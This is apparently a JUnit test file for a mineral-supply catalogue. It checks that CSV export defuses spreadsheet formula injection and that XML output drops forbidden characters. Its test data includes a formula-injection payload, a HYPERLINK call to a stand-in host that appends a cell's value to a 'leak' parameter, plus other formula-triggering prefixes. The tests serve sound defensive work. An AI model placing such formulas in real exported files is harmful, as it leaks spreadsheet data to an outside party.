package tenken.store.io;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.xml.sax.InputSource;
import tenken.store.model.Catalogue;
import tenken.store.model.InputRelation;
import tenken.store.model.SupplyShare;

/** Issue 10 items 5 and 9: the two output rules, and the catalogue export that uses the first. */
class OutputRulesTest {

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasGetAnApostrophe() {
        assertThat(CsvCells.text("=HYPERLINK(\"http://x.example/?leak=\"&A1,\"y\")"))
                .isEqualTo("'=HYPERLINK(\"http://x.example/?leak=\"&A1,\"y\")");
        assertThat(CsvCells.text("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvCells.text("+81 3")).isEqualTo("'+81 3");
        assertThat(CsvCells.text("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvCells.text("\tcmd")).isEqualTo("'\tcmd");
        assertThat(CsvCells.text("\rcmd")).isEqualTo("'\rcmd");
        assertThat(CsvCells.text("USGS, Mineral Commodity Summaries 2025")).isEqualTo(
                "USGS, Mineral Commodity Summaries 2025");
        assertThat(CsvCells.text("")).isEmpty();
    }

    @Test
    void theCatalogueExportNeutralisesTextAndKeepsNumbersNumbers() throws Exception {
        Catalogue catalogue = new Catalogue(List.of(), List.of(), List.of(), List.of(),
                List.of(new SupplyShare("gallium", "refining", "WLD", "CHN", 0.984, 2024,
                        "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"y\")"),
                        new SupplyShare("gallium", "refining", "WLD", "JPN", 0.016, 2024, "@SUM(A1:A9)")),
                List.of(new InputRelation("gallium", "refining", "-bauxite", "mining")), List.of(), java.util.Map.of());
        StringWriter shares = new StringWriter();
        StringWriter inputs = new StringWriter();

        CatalogueExporter.writeShares(catalogue, shares);
        CatalogueExporter.writeInputs(catalogue, inputs);

        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().build()
                .parse(new StringReader(shares.toString())).getRecords();
        assertThat(rows).extracting(r -> r.get("source"))
                .containsExactly("'=HYPERLINK(\"http://x.example/?leak=\"&A1,\"y\")", "'@SUM(A1:A9)");
        assertThat(rows).extracting(r -> r.get("share")).containsExactly("0.984", "0.016");
        assertThat(inputs.toString()).contains("'-bauxite");
    }

    @Test
    void charactersXmlForbidsAreDroppedAndTheRestKept() throws Exception {
        String word = "USGS\u000B Mineral\u0000 Commodity\uFFFE \uD800Summaries 日本 \uD83D\uDE00\tend\n";

        String cleaned = XmlText.clean(word);

        assertThat(cleaned).isEqualTo("USGS Mineral Commodity Summaries 日本 \uD83D\uDE00\tend\n");
        assertThat(XmlText.clean("plain")).isSameAs("plain");
        DocumentBuilderFactory.newInstance().newDocumentBuilder()
                .parse(new InputSource(new StringReader("<a>" + cleaned + "</a>")));
    }
}
